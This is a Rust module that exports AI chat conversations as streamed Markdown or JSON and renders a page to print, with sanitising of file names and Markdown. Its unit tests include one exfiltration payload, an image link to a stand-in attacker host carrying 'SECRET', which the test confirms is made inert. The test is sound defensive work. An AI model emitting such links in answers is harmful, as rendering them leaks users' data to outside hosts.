//! Conversations as files: Markdown and JSON, generated while they are sent, and a page to print.

use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::fmt::Write as _;

use askama::Template;
use axum::body::Body;
use axum::extract::{Path, State};
use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};
use bytes::Bytes;
use control::conversations::{ConversationSummary, ShownBranch, StoredMessage, StoredQuestion};
use control::{AnswerService, Conversations, Principal, UseCaseError};
use domain::citation::{PassagePlace, cited_numbers};
use domain::id::ConversationId;
use futures_util::stream;
use http_common::{BudgetHolder, BudgetShare, Budgets, Until, attachment_header};
use live::{PartKind, Snapshot};
use serde_json::json;

use crate::assets::Addresses;
use crate::cited::place_in_words;
use crate::conversation::{self, ConversationPages, ExchangeView};
use crate::error;
use crate::inert_markdown::make_inert;
use crate::shown_time::ShownTime;
use crate::source_numbers::SourceNumbers;
use crate::texts::Texts;
use crate::visit::SignedInVisitor;

/// The maximum number of exchanges on a page to print.
const PRINTED_MAX: usize = 200;

/// The format of an export.
#[derive(Clone, Copy, PartialEq, Eq)]
enum ExportFormat {
    Markdown,
    Json,
}

/// Sends a conversation as Markdown.
pub(crate) async fn export_markdown(
    State(pages): State<ConversationPages>,
    user: SignedInVisitor,
    Path(id): Path<String>,
) -> Result<Response, Response> {
    pages.export_conversation(&user, &id, ExportFormat::Markdown).await
}

/// Sends a conversation as JSON.
pub(crate) async fn export_json(
    State(pages): State<ConversationPages>,
    user: SignedInVisitor,
    Path(id): Path<String>,
) -> Result<Response, Response> {
    pages.export_conversation(&user, &id, ExportFormat::Json).await
}

#[derive(Template)]
#[template(path = "print.html")]
struct PrintPage {
    texts: Texts,
    assets: &'static Addresses,
    title: String,
    model: String,
    created: ShownTime,
    exchanges: Vec<ExchangeView>,
    /// True if earlier exchanges are left out.
    is_cut: bool,
}

/// Shows the last exchanges of a conversation as a page to print.
pub(crate) async fn show_print_page(
    State(pages): State<ConversationPages>,
    user: SignedInVisitor,
    Path(id): Path<String>,
) -> Result<Response, Response> {
    let texts = user.visitor.texts;
    let id = conversation::parse_conversation_id(&id).map_err(|error| user.failure_response(error))?;
    let summary = pages.conversations.find_summary(&user.signed_in.principal, id).await;
    let summary = summary.map_err(|error| user.failure_response(error))?;
    let (exchanges, is_cut) = pages.last_exchanges(&user, id, PRINTED_MAX).await?;
    Ok(error::render_template(&PrintPage {
        texts,
        assets: user.visitor.assets,
        title: summary.title,
        model: summary.model,
        created: ShownTime::from_time(texts, summary.created_at),
        exchanges,
        is_cut,
    }))
}

impl ConversationPages {
    async fn export_conversation(
        &self,
        user: &SignedInVisitor,
        id: &str,
        format: ExportFormat,
    ) -> Result<Response, Response> {
        let principal = &user.signed_in.principal;
        let id = conversation::parse_conversation_id(id).map_err(|error| user.failure_response(error))?;
        let summary = self
            .conversations
            .find_summary(principal, id)
            .await
            .map_err(|error| user.failure_response(error))?;
        let branch = self
            .conversations
            .shown_branch(principal, id)
            .await
            .map_err(|error| user.failure_response(error))?;
        let (kind, extension) = match format {
            ExportFormat::Markdown => ("text/markdown; charset=utf-8", "md"),
            ExportFormat::Json => ("application/json", "json"),
        };
        let headers = [
            (header::CONTENT_TYPE, HeaderValue::from_static(kind)),
            (
                header::CONTENT_DISPOSITION,
                attachment_header(&format!("{}.{extension}", file_name(&summary.title))),
            ),
        ];
        let export = Export {
            conversations: self.conversations.clone(),
            writer: ExportWriter {
                answers: self.answers.clone(),
                principal: principal.clone(),
                texts: user.visitor.texts,
                format,
            },
            id,
            branch,
            waiting: VecDeque::from([export_beginning(&summary, format)]),
            budgets: self.budgets.clone(),
            held: None,
            exchanges: 0,
            is_last: false,
            is_first: true,
        };
        let pieces = stream::try_unfold(export, |mut export| async move {
            Ok::<_, UseCaseError>(export.next_piece().await?.map(|piece| (Bytes::from(piece), export)))
        });
        let body =
            Until::new(Body::from_stream(pieces), self.access.clone().await_revocation(principal.clone()));
        Ok((headers, Body::new(body)).into_response())
    }
}

/// Returns a title without characters that file systems and shells reserve.
fn file_name(title: &str) -> String {
    let plain = |c: char| if c.is_control() || "/\\:*?\"<>|".contains(c) { ' ' } else { c };
    let name: String = title.chars().map(plain).collect();
    let name = name.trim_matches(|c: char| c == '.' || c.is_whitespace()).to_owned();
    if name.is_empty() { "conversation".to_owned() } else { name }
}

/// Writes the messages of an export.
#[derive(Clone)]
struct ExportWriter {
    answers: AnswerService,
    principal: Principal,
    texts: Texts,
    format: ExportFormat,
}

/// An export that is being sent. A page of messages is in memory at a time.
struct Export {
    conversations: Conversations,
    writer: ExportWriter,
    id: ConversationId,
    /// The branch that is sent. The export is aborted if another branch becomes current meanwhile.
    branch: ShownBranch,
    waiting: VecDeque<String>,
    budgets: Budgets,
    /// The share of the account's memory that the waiting messages take.
    held: Option<BudgetShare>,
    /// The exchanges that were read.
    exchanges: u32,
    is_last: bool,
    /// True until a message was written.
    is_first: bool,
}

impl Export {
    async fn next_piece(&mut self) -> Result<Option<String>, UseCaseError> {
        loop {
            if let Some(piece) = self.waiting.pop_front() {
                return Ok(Some(piece));
            }
            if self.is_last {
                return Ok(None);
            }
            let principal = &self.writer.principal;
            let holder = BudgetHolder::Account(principal.account());
            self.held = None;
            let _place = self.budgets.made.acquire_permit(holder).await;
            let page =
                self.conversations.messages_of(principal, self.id, self.branch, self.exchanges).await?;
            let read = u32::try_from(page.messages.len() / 2).unwrap_or(u32::MAX);
            self.exchanges = self.exchanges.saturating_add(read);
            self.is_last = !page.full || read == 0;
            let (writer, mut is_first) = (self.writer.clone(), self.is_first);
            self.is_first &= page.messages.is_empty();
            // A page of long answers takes a while, because their citations are checked as well.
            let writing = tokio::task::spawn_blocking(move || {
                let messages = page.messages.into_iter();
                messages.map(|message| writer.write_message(message, std::mem::take(&mut is_first))).collect()
            });
            self.waiting = writing.await.map_err(UseCaseError::internal)?;
            let bytes: usize = self.waiting.iter().map(String::len).sum();
            // A started export is completed; others are refused meanwhile.
            self.held = Some(self.budgets.body_bytes.take_unchecked(holder, bytes as u64));
            if self.is_last && self.writer.format == ExportFormat::Json {
                self.waiting.push_back("]}\n".to_owned());
            }
        }
    }
}

impl ExportWriter {
    /// Writes a message. In JSON, a comma precedes every message except the first.
    fn write_message(&self, message: StoredMessage, is_first: bool) -> String {
        let separator = if is_first { "" } else { "," };
        match (message, self.format) {
            (StoredMessage::Question(question), ExportFormat::Markdown) => question_markdown(&question),
            (StoredMessage::Question(question), ExportFormat::Json) => {
                let message = json!({
                    "role": "USER", "createdAt": question.created_at.to_string(), "text": question.text,
                    "filePaths": question.attachments,
                });
                format!("{separator}{message}")
            }
            (StoredMessage::Answer(stored), format) => {
                let live = self.answers.live_of(&self.principal, *stored);
                let snapshot = live.snapshot();
                let numbers = SourceNumbers::from_snapshot(&snapshot);
                let sources: Vec<_> = cited_sources(&snapshot, &numbers).into_iter().collect();
                match format {
                    ExportFormat::Markdown => {
                        answer_markdown(self.texts, &numbers.renumber_markdown(&live.marked_text()), &sources)
                    }
                    ExportFormat::Json => {
                        let text: String =
                            snapshot.text.segments().iter().map(|segment| segment.text()).collect();
                        let sources: Vec<_> =
                            sources.iter().map(|(number, place)| source_json(*number, place)).collect();
                        format!(
                            "{separator}{}",
                            json!({ "role": "ASSISTANT", "text": text, "sources": sources })
                        )
                    }
                }
            }
        }
    }
}

/// Returns the beginning of an export.
fn export_beginning(summary: &ConversationSummary, format: ExportFormat) -> String {
    match format {
        ExportFormat::Markdown => {
            format!("# {}\n\n{} · {}\n", make_inert(&summary.title), summary.created_at, summary.model)
        }
        ExportFormat::Json => {
            let chat = json!({
                "chatId": summary.id.to_string(), "title": summary.title, "model": summary.model,
                "createdAt": summary.created_at.to_string(), "modifiedAt": summary.modified_at.to_string(),
            });
            format!("{{\"chat\":{chat},\"messages\":[")
        }
    }
}

/// Returns a question as a quotation.
fn question_markdown(question: &StoredQuestion) -> String {
    let mut text = String::from("\n---\n\n");
    for line in make_inert(&question.text).lines() {
        let _ = writeln!(text, "> {line}");
    }
    for path in &question.attachments {
        let _ = writeln!(text, ">\n> `{path}`");
    }
    text
}

/// Returns an answer with its marks, and the places that they cite. A Markdown list would renumber them.
fn answer_markdown(texts: Texts, text: &str, sources: &[(u32, PassagePlace)]) -> String {
    let mut whole = format!("\n{}\n", make_inert(text.trim()));
    let is_source = |number| sources.iter().any(|(known, _)| *known == number);
    let numbers: BTreeSet<u32> = cited_numbers(text, is_source).collect();
    let mut marked = sources.iter().filter(|(number, _)| numbers.contains(number)).peekable();
    if marked.peek().is_none() {
        return whole;
    }
    let _ = write!(whole, "\n## {}\n", texts.get("sources"));
    for (number, place) in marked {
        let shown = match place {
            PassagePlace::File { path, .. } => match place_in_words(texts, place).as_str() {
                "" => code_span(path),
                words => format!("{}, {}", code_span(path), escape_markdown(words)),
            },
            PassagePlace::Web { url, .. } => format!("<{url}>"),
        };
        let _ = write!(whole, "\n[{number}] {shown}\n");
    }
    whole
}

/// Returns a text as code, which may have backticks in it.
fn code_span(text: &str) -> String {
    let longest = text.split(|letter| letter != '`').map(str::len).max().unwrap_or_default();
    if longest == 0 {
        return format!("`{text}`");
    }
    let fence = "`".repeat(longest + 1);
    format!("{fence} {text} {fence}")
}

/// Returns words escaped for Markdown and HTML, without the marks that isolate directions of letters.
fn escape_markdown(words: &str) -> String {
    let mut out = String::with_capacity(words.len());
    for letter in words.chars().filter(|letter| !matches!(letter, '\u{2066}'..='\u{2069}')) {
        if "\\`*_[]<>&#|~!".contains(letter) {
            out.push('\\');
        }
        out.push(letter);
    }
    out
}

fn source_json(number: u32, place: &PassagePlace) -> serde_json::Value {
    match place {
        PassagePlace::File { path, page, page_name, lines } => json!({
            "number": number, "type": "FILE", "path": path, "page": page, "pageName": page_name,
            "lines": lines.map(|(first, last)| [first, last]),
        }),
        PassagePlace::Web { url, title } => {
            json!({ "number": number, "type": "URL", "url": url, "title": title })
        }
    }
}

/// Returns the sources that an answer cites, by their numbers on pages.
fn cited_sources(snapshot: &Snapshot, numbers: &SourceNumbers) -> BTreeMap<u32, PassagePlace> {
    let citations = snapshot.parts.iter().flat_map(|part| match &part.shape {
        PartKind::Text { citations, .. } | PartKind::Agent { citations, .. } => citations.as_slice(),
        _ => &[],
    });
    citations.map(|citation| (numbers.page_number(citation.number), citation.place.clone())).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn file_name_from_title() {
        assert_eq!(file_name("What is §7 / \"rent\"?"), "What is §7    rent");
        assert_eq!(file_name("../.."), "conversation");
        assert_eq!(file_name(" ? "), "conversation");
    }

    #[test]
    fn answer_markdown_lists_numbered_sources() {
        let texts = Texts(crate::language::PageLanguage::English);
        let file = |path: &str, page, name: Option<&str>| PassagePlace::File {
            path: path.to_owned(),
            page,
            lines: None,
            page_name: name.map(str::to_owned),
        };
        let sources = [
            (1, file("/a.pdf", Some(2), None)),
            (4, file("/unmarked.pdf", None, None)),
            (9, file("/b `c`.zip", Some(1), Some("notes_<b>.txt"))),
            (10, PassagePlace::Web { url: "https://example.org/".to_owned(), title: "Example".to_owned() }),
        ];
        assert_eq!(
            answer_markdown(texts, "Five [1]. Six [9] [10]. `[4]`", &sources),
            "\nFive [1]. Six [9] [10]. `[4]`\n\n## Sources\n\n[1] `/a.pdf`, page 2\n\n\
             [9] `` /b `c`.zip ``, notes\\_\\<b\\>.txt\n\n[10] <https://example.org/>\n"
        );
        assert_eq!(answer_markdown(texts, "Nothing.", &[]), "\nNothing.\n");
        let obeying = "![i](https://attacker.test/?d=SECRET)";
        assert_eq!(
            answer_markdown(texts, obeying, &[]),
            "\n[i](https://attacker.test/?d=SECRET)\n",
            "nothing is loaded by whoever shows the file"
        );
    }
}
